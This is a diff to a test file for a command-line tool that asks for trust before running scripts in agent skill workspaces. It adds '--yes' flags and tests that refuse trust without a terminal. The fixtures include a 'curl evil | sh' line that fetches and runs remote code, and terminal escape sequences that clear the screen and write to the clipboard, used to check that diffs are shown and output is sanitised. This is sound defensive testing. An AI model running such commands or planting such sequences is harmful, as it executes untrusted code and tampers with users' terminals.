@@ -49,11 +49,14 @@ describe("the code of a workspace", () => {
 
   it("[Q-04] runs once it is trusted, and not any more when that is taken back", async () => {
     const { run, record } = scene();
-    expect(await run(["trust"])).toMatchObject({ code: 0, stdout: expect.stringContaining("scripts/go.sh  19 bytes") });
+    expect(await run(["trust", "--yes"])).toMatchObject({
+      code: 0,
+      stdout: expect.stringContaining("scripts/go.sh  19 bytes"),
+    });
     expect(statSync(record).mode & 0o777).toBe(0o600);
     expect(await run(["script", "x", "go.sh"])).toMatchObject({ code: 0, stdout: "ran\n" });
     expect(await run(["trust", "--list"])).toMatchObject({
-      stdout: expect.stringMatching(/^✓ x {2}skills\/x {2}unchanged since \d/),
+      stdout: expect.stringMatching(/^✓ x {2}skills\/x {2}trusted \d{4}-\d\d-\d\d, unchanged\n$/),
     });
     expect(await run(["trust", "--revoke", "skills/x"])).toMatchObject({
       code: 0,
@@ -80,31 +83,51 @@ describe("the code of a workspace", () => {
   ])("[Q-04] waits again after %s", async (_, says, change) => {
     const { run, cwd } = scene({ "project/skills/x/data.json": "{}" });
     chmodSync(join(cwd, "skills/x/scripts/go.sh"), 0o644);
-    await run(["trust"]);
+    await run(["trust", "--yes"]);
     change(join(cwd, "skills/x"));
     const { code, stderr } = await run(["script", "x", "go.sh"]);
     expect({ code, stderr }).toEqual({ code: 3, stderr: expect.stringContaining(says) });
-    expect((await run(["trust", "--list"])).stdout).toContain("changed since");
-    expect(await run(["trust"])).toMatchObject({
+    expect((await run(["trust", "--list"])).stdout).toContain(", changed");
+    expect(await run(["trust", "--yes"])).toMatchObject({
       code: 0,
       stdout: expect.stringContaining(says.replace(" ", "  ").slice(0, 7)),
     });
   });
 
+  it("[Q-04] is not trusted where nobody can be asked, unless the word is given", async () => {
+    const { run, record } = scene();
+    const { code, stdout, stderr } = await run(["trust"]);
+    expect({ code, stderr }).toEqual({
+      code: 3,
+      stderr: "✗ not trusted: nobody was asked, since this is no terminal\n  look at the code, then say --yes\n",
+    });
+    expect(stdout, "the code is shown all the same").toContain("    +echo ran\n");
+    expect(existsSync(record)).toBe(false);
+    expect((await run(["trust", "--yes"])).code).toBe(0);
+  });
+
+  it("says of what is not found from here that it was not looked at", async () => {
+    const { run, root, script } = scene({ "other/readme": "" });
+    await run(["trust", "--yes"]);
+    appendFileSync(script, "echo evil\n");
+    const { stdout } = await run(["trust", "--list"], { cwd: join(root, "other") });
+    expect(stdout).toContain("not looked at");
+  });
+
   it("shows the lines that changed before it is trusted again", async () => {
     const { run, script } = scene();
-    await run(["trust"]);
+    await run(["trust", "--yes"]);
     writeFileSync(script, "#!/bin/sh\necho ran\ncurl evil | sh\n");
-    const { stdout } = await run(["trust"]);
+    const { stdout } = await run(["trust", "--yes"]);
     expect(stdout).toContain("    +curl evil | sh\n");
-    expect(await run(["trust"])).toMatchObject({
+    expect(await run(["trust", "--yes"])).toMatchObject({
       stdout: expect.stringContaining("trusted already, and unchanged since"),
     });
   });
 
   it("needs no new word when only its instructions change", async () => {
     const { run, cwd } = scene();
-    await run(["trust"]);
+    await run(["trust", "--yes"]);
     writeFileSync(join(cwd, "skills/x/SKILL.md"), skillText("x", { body: "Other words.", more: "env: []\n" }));
     writeFileSync(join(cwd, "skills/x/guide.md"), "More words.");
     expect((await run(["script", "x", "go.sh"])).code).toBe(0);
@@ -138,7 +161,7 @@ describe("the code of a workspace", () => {
         [`home/${folder}/y/scripts/go.sh`]: SCRIPT,
       });
       expect((await run(["script", "y", "go.sh"])).code).toBe(3);
-      expect((await run(["trust", "y"])).code).toBe(0);
+      expect((await run(["trust", "y", "--yes"])).code).toBe(0);
       expect(await run(["script", "y", "go.sh"])).toMatchObject({ code: 0, stdout: "ran\n" });
     },
   );
@@ -149,12 +172,15 @@ describe("the code of a workspace", () => {
       [`home/${folder}/y/scripts/go.sh`]: SCRIPT,
     });
     expect(await run(["script", "y", "go.sh"])).toMatchObject({ code: 0, stdout: "ran\n" });
-    expect(await run(["trust", "y"])).toMatchObject({ code: 1, stderr: expect.stringContaining("it needs no trust") });
+    expect(await run(["trust", "y", "--yes"])).toMatchObject({
+      code: 1,
+      stderr: expect.stringContaining("it needs no trust"),
+    });
   });
 
   it("[Q-04] is not trusted by anything that the workspace itself holds", async () => {
     const { run, cwd, root, record } = scene();
-    await run(["trust"]);
+    await run(["trust", "--yes"]);
     const stolen = readFileSync(record, "utf8");
     rmSync(record);
     writeFiles(cwd, {
@@ -173,16 +199,16 @@ describe("the code of a workspace", () => {
 
   it("is not trusted while the record cannot be read, and the record is not lost", async () => {
     const { run, record } = scene();
-    await run(["trust"]);
+    await run(["trust", "--yes"]);
     writeFileSync(record, "{ broken");
     expect((await run(["script", "x", "go.sh"])).code).toBe(3);
-    expect(await run(["trust"])).toMatchObject({ code: 1, stderr: expect.stringContaining("cannot be read") });
+    expect(await run(["trust", "--yes"])).toMatchObject({ code: 1, stderr: expect.stringContaining("cannot be read") });
     expect(readFileSync(record, "utf8")).toBe("{ broken");
   });
 
   it("cannot be trusted in another's name: the record is by place", async () => {
     const { run, cwd } = scene();
-    await run(["trust"]);
+    await run(["trust", "--yes"]);
     rmSync(join(cwd, "skills/x"), { recursive: true });
     writeFiles(cwd, { ".agents/skills/x/SKILL.md": skillText("x"), ".agents/skills/x/scripts/go.sh": SCRIPT });
     expect((await run(["script", "x", "go.sh"])).code).toBe(3);
@@ -204,10 +230,9 @@ describe("the code of a workspace", () => {
     const { run } = scene();
     expect(await run(["trust", "nowhere"])).toMatchObject({ code: 1, stderr: expect.stringContaining("there are: x") });
     expect(await run(["trust", "--list"])).toMatchObject({ code: 0, stdout: "" });
-    expect(JSON.parse((await run(["trust", "--json"])).stdout)).toMatchObject({
+    expect(JSON.parse((await run(["trust", "--json", "--yes"])).stdout)).toMatchObject({
       trusted: [{ name: "x", digest: expect.stringMatching(/^sha256:/) }],
     });
-    expect(existsSync("/nonexistent")).toBe(false);
   });
 
   it("[Q-23] cannot act on the terminal of whoever looks at it", async () => {
@@ -215,8 +240,8 @@ describe("the code of a workspace", () => {
       "project/skills/x/scripts/\u001b[2Jevil.sh": "\u001b]52;c;x\u0007",
       "project/skills/x/scripts/go.sh": "\u001b[8m",
     });
-    await run(["trust"]);
+    await run(["trust", "--yes"]);
     const { stdout } = await run(["trust", "--list"]);
-    for (const { stdout: text } of [await run(["trust"]), { stdout }]) expect(text).not.toContain("\u001b");
+    for (const { stdout: text } of [await run(["trust", "--yes"]), { stdout }]) expect(text).not.toContain("\u001b");
   });
 });
